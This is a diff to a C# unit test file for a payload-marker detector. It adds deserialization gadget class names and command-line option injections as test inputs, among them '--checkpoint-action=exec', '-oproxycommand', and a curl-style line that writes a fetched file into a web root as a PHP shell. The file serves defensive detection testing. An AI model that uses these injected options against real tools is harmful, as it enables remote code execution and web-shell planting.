@@ -26,6 +26,8 @@ public sealed class PayloadMarkersTests
         { "com.sun.rowset.jdbcrowsetimpl", HandcraftedFeature.SerializedObject },
         { "system.windows.data.objectdataprovider, presentationframework", HandcraftedFeature.SerializedObject },
         { "_$$nd_func$$_function(){require('child_process')}", HandcraftedFeature.SerializedObject },
+        { "<jdk.nashorn.internal.objects.nativestring>", HandcraftedFeature.SerializedObject },
+        { "com.sun.xml.internal.bind.v2.runtime.unmarshaller.base64data", HandcraftedFeature.SerializedObject },
     };
 
     [Theory]
@@ -49,6 +51,35 @@ public sealed class PayloadMarkersTests
         var counts = new int[HandcraftedFeature.Count];
         PayloadMarkers.ScanValue(value, counts);
         Assert.Equal(1, counts[HandcraftedFeature.UrlConfusion]);
+    }
+
+    public static TheoryData<string> CommandOptions() =>
+    [
+        "--to-command=id", "--use-compress-program=id", "--checkpoint-action=exec=sh x.sh", "--rsh=sh -c 'id>&2'",
+        "-o /var/www/html/x.php http://198.51.100.7/s.txt", "--output=/var/www/html/shell.php", "-oproxycommand=id",
+    ];
+
+    [Theory]
+    [MemberData(nameof(CommandOptions))]
+    public void ScanValue_CommandLineOption_IsAShellChain(string value)
+    {
+        var counts = new int[HandcraftedFeature.Count];
+        PayloadMarkers.ScanValue(value, counts);
+        Assert.Equal(1, counts[HandcraftedFeature.ShellChain]);
+    }
+
+    [Theory]
+    [InlineData("-5")]
+    [InlineData("--")]
+    [InlineData("- milk\n- eggs")]
+    [InlineData("--- yaml front matter")]
+    [InlineData("see --output in the manual")]
+    [InlineData("-o-")]
+    public void ScanValue_DashedValuesThatAreNotOptions_AreNotAShellChain(string value)
+    {
+        var counts = new int[HandcraftedFeature.Count];
+        PayloadMarkers.ScanValue(value, counts);
+        Assert.Equal(0, counts[HandcraftedFeature.ShellChain]);
     }
 
     /// <summary>Ordinary values that share a character or a word with those structures.</summary>
